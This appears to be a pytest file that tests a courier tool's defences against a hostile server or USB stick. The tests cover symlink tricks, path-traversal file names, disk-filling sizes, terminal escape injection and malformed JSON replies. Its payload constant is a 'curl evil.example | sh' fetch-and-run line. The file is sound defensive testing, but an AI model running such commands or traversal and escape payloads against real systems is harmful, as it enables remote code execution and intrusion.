"""A hostile server, or a hostile stick, against the courier's laptop: nothing of it is written, sent or filled."""

from __future__ import annotations

import json
import os
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner

from keys.sealing.bundle import write_bundle
from keys.sealing.chain_position import ChainId, Direction
from keys.sealing.courier_line import ANSWER_BYTES, PIECE_BYTES
from keys.sealing.errors import KhomoError
from keys.sealing.fields import Fields
from keys.sealing.manifest import Manifest
from keys.sealing.notes import SigningKey
from reviewer.errors import ReviewerError
from reviewer.online import courier_commands
from reviewer.online.courier_line import CourierLine, fetch, push
from tests.intake.world import TODAY, World
from tests.reviewer.online.test_courier_home import ONION

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence
    from pathlib import Path

NAME = "khomo-to-desk-5f1c22aa-000013.bundle"
EVIL = b"curl evil.example | sh\n"


@dataclass
class HostileLine(CourierLine):
    """Answers as a hostile server does; notes what was asked for."""

    answers: Mapping[str, dict[str, Any]] = field(default_factory=dict)
    pieces: Sequence[bytes] = ()
    asked: list[str] = field(default_factory=list)

    def enter(self, direction: Direction) -> None:
        self.asked.append(direction)

    def ask(self, verb: str, path: str, value: dict[str, Any] | None = None) -> Fields:
        self.asked.append(f"{verb} {path}")
        return Fields(self.answers[path], "server's answer")

    def fetch_piece(self, number: int) -> bytes:
        self.asked.append(f"piece {number}")
        return self.pieces[number]

    def push_piece(self, number: int, data: bytes) -> None:
        self.asked.append(f"pushed {number}: {len(data)}")


@dataclass
class Courier:
    """A laptop with a stick in it, and what may never be touched on it."""

    folder: Path
    world: World = field(default_factory=World)

    def __post_init__(self) -> None:
        self.waiting, self.stick, self.private = (self.folder / name for name in ("fetching", "stick", "bashrc"))
        self.stick.mkdir()
        self.private.write_text("alias ls='ls --color'\n")

    def fetch(self, name: str = NAME, content: bytes = EVIL, size: int | None = None) -> HostileLine:
        offer = {"name": name, "size": len(content) if size is None else size}
        pieces = [
            content[at : at + PIECE_BYTES].ljust(PIECE_BYTES, b"\0")
            for at in range(0, max(1, len(content)), PIECE_BYTES)
        ]
        line = HostileLine(ONION, self.world.server_key, self._nowhere, answers={"/offer": offer, "/offer/done": {}})
        line.pieces = pieces
        fetch(line, self.stick, self.world.bundle(), self.waiting, lambda _done, _all: None)
        return line

    def push(self, file: Path, **answers: dict[str, Any]) -> HostileLine:
        told = {"/parcel": {"there": 0}, "/parcel/done": {"number": 1, "letters": 2, "repeated": False}}
        line = HostileLine(ONION, self.world.server_key, self._nowhere, answers=told | answers)
        push(line, file, self.world.bundle(), lambda _done, _all: None)
        return line

    def bundle(self, name: str, key: SigningKey, direction: Direction, number: int = 1) -> Path:
        """Write an empty bundle that this key signed."""
        chain = ChainId(key.name, direction, "5f1c22aa" * 4)
        manifest = Manifest(chain, number, None if number == 1 else "00" * 32, TODAY, ())
        write_bundle(self.folder / name, manifest, lambda _id: pytest.fail("it has no blob"), key)
        return self.folder / name

    @staticmethod
    def _nowhere() -> Any:
        pytest.fail("a connection is made")


@pytest.fixture
def courier(tmp_path: Path) -> Courier:
    return Courier(tmp_path)


@pytest.mark.parametrize("name", [f"{NAME}.partial-fetch", NAME])
def test_a_link_on_the_stick_leads_no_byte_into_a_file_of_the_laptop(courier: Courier, name: str) -> None:
    before = courier.private.read_text()
    (courier.stick / name).symlink_to(courier.private)
    with pytest.raises(KhomoError):
        courier.fetch()
    assert courier.private.read_text() == before
    assert [one.name for one in courier.stick.iterdir()] == [name]


def test_not_even_a_link_among_what_waits_is_followed(courier: Courier) -> None:
    before = courier.private.read_text()
    courier.waiting.mkdir()
    (courier.waiting / NAME).symlink_to(courier.private)
    with pytest.raises(OSError, match="symbolic"):
        courier.fetch()
    (courier.waiting / NAME).unlink()
    os.link(courier.private, courier.waiting / NAME)
    with pytest.raises(ReviewerError, match="no ordinary file"):
        courier.fetch()
    assert courier.private.read_text() == before


@pytest.mark.parametrize(
    "name",
    ["a.bundle", "../.bashrc", ".bashrc", f"/etc/{NAME}", f"{NAME}\n", f"x{NAME}", NAME.upper(), NAME + "~", ""],
)
def test_the_server_does_not_choose_the_name_of_a_file(courier: Courier, name: str) -> None:
    with pytest.raises(ReviewerError, match="a name that no bundle has"):
        courier.fetch(name)
    assert not list(courier.stick.iterdir())
    assert not courier.waiting.exists()


def test_the_name_is_that_of_the_bundle_which_was_signed(courier: Courier) -> None:
    right = courier.bundle("right", courier.world.server_key, Direction.TO_DESK).read_bytes()
    with pytest.raises(ReviewerError, match="khomo-to-desk-5f1c22aa-000001 the name of another bundle"):
        courier.fetch(content=right)
    assert not list(courier.stick.iterdir())
    line = courier.fetch("khomo-to-desk-5f1c22aa-000001.bundle", right)
    assert (courier.stick / "khomo-to-desk-5f1c22aa-000001.bundle").read_bytes() == right
    assert not list(courier.waiting.iterdir())
    assert line.asked[-1] == "POST /offer/done"


@pytest.mark.parametrize("size", [10**18, 10**400])
def test_the_server_does_not_fill_the_disk(courier: Courier, size: int) -> None:
    with pytest.raises(ReviewerError, match="are free"):
        courier.fetch(size=size)
    assert not list(courier.waiting.iterdir())


def test_what_is_left_of_another_bundle_makes_room(courier: Courier) -> None:
    courier.waiting.mkdir()
    (courier.waiting / NAME.replace("13", "12")).write_bytes(EVIL)
    with pytest.raises(KhomoError):
        courier.fetch()
    assert not list(courier.waiting.iterdir())


def test_a_stick_that_is_full_keeps_what_was_fetched_for_the_next_try(
    courier: Courier, monkeypatch: pytest.MonkeyPatch
) -> None:
    right = courier.bundle("right", courier.world.server_key, Direction.TO_DESK).read_bytes()
    name = "khomo-to-desk-5f1c22aa-000001.bundle"

    def full(*_given: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr("reviewer.online.courier_waiting.shutil.copyfileobj", full)
        with pytest.raises(OSError, match="space"):
            courier.fetch(name, right)
    assert not list(courier.stick.iterdir())
    assert (courier.waiting / name).read_bytes() == right
    courier.fetch(name, right)
    assert (courier.stick / name).read_bytes() == right


def test_nothing_but_a_desks_bundle_leaves_the_laptop(courier: Courier) -> None:
    link = courier.stick / "khomo-to-server-main-000012.bundle"
    link.symlink_to(courier.private)
    forged = courier.bundle("forged", SigningKey.generate("main"), Direction.TO_SERVER)
    other_way = courier.bundle("other", courier.world.server_key, Direction.TO_DESK)
    for file in (link, courier.private, forged, other_way):
        with pytest.raises(KhomoError):
            courier.push(file)
    right = courier.bundle("right", courier.world.desk_key, Direction.TO_SERVER)
    line = courier.push(right)
    assert line.asked[0] == Direction.TO_SERVER
    assert sum(one.startswith("pushed") for one in line.asked) >= 1
    link.unlink()
    link.symlink_to(right)
    with pytest.raises(ReviewerError, match="is a link"):
        courier.push(link)


@pytest.mark.parametrize(
    "done",
    [
        {"repeated": False, "number": "\x1b]0;owned\x07\x1b[2J\x1b[H1", "letters": 3},
        {"repeated": False, "number": 1, "letters": "3"},
        {"repeated": "\x1b[2J", "number": 1, "letters": 3},
        {},
    ],
)
def test_a_server_says_numbers_and_never_writes_on_the_terminal(
    courier: Courier, done: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    right = courier.bundle("right", courier.world.desk_key, Direction.TO_SERVER)

    class Home:
        """A courier's folder."""

        def __init__(self, _folder: Path) -> None:
            self.onion = lambda given: given
            self.public_bundle = courier.world.bundle

    @contextmanager
    def line(*_given: object) -> Iterator[HostileLine]:
        answers = {"/parcel": {"there": 0}, "/parcel/done": done}
        yield HostileLine(ONION, courier.world.server_key, courier._nowhere, answers=answers)

    monkeypatch.setattr(courier_commands, "CourierHome", Home)
    monkeypatch.setattr(courier_commands, "_line", line)
    said = CliRunner().invoke(
        courier_commands.push_command, [str(right), "--home", str(courier.folder), "--onion", str(ONION)], color=True
    )
    assert "\x1b" not in said.output
    assert isinstance(said.exception, ReviewerError)
    assert "does not know" in str(said.exception)


@pytest.mark.parametrize(
    "answer",
    [
        b"[]",
        b"{}",
        b"nonsense",
        b"\xff",
        b'{"nonce": 1}',
        b'{"nonce": "zz"}',
        b'{"nonce": "00"}',
        b"[" * 2000,
        b'{"nonce": NaN}',
        b" " * ANSWER_BYTES + json.dumps({"nonce": "00" * 32}).encode(),
    ],
)
def test_an_answer_that_is_none_is_said_to_be(courier: Courier, answer: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    line = CourierLine(ONION, courier.world.server_key, courier._nowhere)
    monkeypatch.setattr(line, "_request", lambda *_given: answer)
    with pytest.raises(ReviewerError, match="does not know"):
        line.enter(Direction.TO_DESK)


@pytest.mark.parametrize("answer", [b"[" * 2000, b"{}", b'{"error": 1, "remedy": []}', b'{"error": "' + b"x" * 4000])
def test_a_refusal_that_is_none_is_said_to_be(courier: Courier, answer: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    line = CourierLine(ONION, courier.world.server_key, courier._nowhere)
    monkeypatch.setattr(line, "_once", lambda *_given: (409, answer))
    with pytest.raises(ReviewerError, match="answered with an error"):
        line.enter(Direction.TO_DESK)
